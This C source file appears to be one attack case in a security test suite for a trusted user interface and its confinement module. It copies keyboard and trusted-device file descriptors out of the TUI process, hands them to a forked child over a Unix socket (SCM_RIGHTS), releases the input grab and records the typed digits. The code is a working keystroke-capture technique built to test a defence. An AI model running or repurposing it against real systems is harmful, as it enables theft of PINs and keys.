// SPDX-License-Identifier: Apache-2.0
/*
 * Copies out of the trusted user interface what it reads keys from and passes it to another
 * process (SCM_RIGHTS), which reads them, or ends the grab and reads them elsewhere.
 *
 * attack: fd_passed
 * class: process
 * when: session
 * judge: keys
 * defence: confinement
 * why: whose file it is the kernel does not ask of a read; the module does, and answers none but the
 *	process that was admitted. The REE has no way to copy the fd first (pidfd_getfd)
 */
#include <errno.h>
#include <linux/input.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#include "evdev.h"
#include "kmod/uapi/tconn.h"
#include "process.h"
#include "report.h"

union control {
	struct cmsghdr header;
	char space[CMSG_SPACE(sizeof(int))];
};

static struct msghdr message(union control *control)
{
	static char byte;
	static struct iovec data = { .iov_base = &byte, .iov_len = 1 };

	return (struct msghdr){
		.msg_iov = &data, .msg_iovlen = 1,
		.msg_control = control, .msg_controllen = sizeof(*control),
	};
}

static void pass(int to, int fd)
{
	union control control = {
		.header = {
			.cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET,
			.cmsg_type = SCM_RIGHTS,
		},
	};
	struct msghdr m = message(&control);

	memcpy(CMSG_DATA(&control.header), &fd, sizeof(fd));
	sendmsg(to, &m, 0);
	close(fd);
}

static int receive(int from)
{
	union control control = { 0 };
	struct msghdr m = message(&control);
	int fd;

	if (recvmsg(from, &m, MSG_CMSG_CLOEXEC) != 1 || !CMSG_FIRSTHDR(&m))
		return -1;
	memcpy(&fd, CMSG_DATA(&control.header), sizeof(fd));
	return fd;
}

/* The other process: reads the fds that come and, where their grab can be ended, what they were of. */
static void read_passed(int from)
{
	char digits[256] = "";
	int fds[EVDEV_MAX], fd;
	size_t count = evdev_open_keyboards(fds);

	while (count < EVDEV_MAX && (fd = receive(from)) >= 0) {
		ioctl(fd, EVIOCGRAB, 0);
		fds[count++] = fd;
	}
	while (!attack_stopping())
		if (evdev_collect(fds, count, 100, digits, sizeof(digits)))
			attack_wait(100);
	attack_digits(digits);
}

/* How many were had. */
static int pass_all(pid_t pid, int to)
{
	int i, fd, count = 0;
	char path[32];

	for (i = -1; i < EVDEV_MAX; i++) {
		snprintf(path, sizeof(path), i < 0 ? TCONN_DEVICE : "/dev/input/event%d", i);
		fd = process_steal_fd(pid, path);
		if (fd < 0)
			continue;
		pass(to, fd);
		count++;
	}
	return count;
}

int main(void)
{
	int ends[2], count;
	pid_t pid;

	attack_init();
	attack_ready();
	pid = process_wait_tui();
	if (!pid)
		attack_failed("it sees no tconn-tui");
	if (socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, ends))
		attack_failed("no sockets: %s", strerror(errno));
	if (!fork()) {
		close(ends[0]);
		read_passed(ends[1]);
		_exit(0);
	}
	close(ends[1]);
	count = pass_all(pid, ends[0]);
	close(ends[0]);
	if (!count)
		attack_failed("nothing of process %d could be copied", pid);
	attack_wait(600 * 1000);
	attack_wait(500);	/* for the other to say what it has */
	attack_failed("%d files were passed on; these are all the digits", count);
}
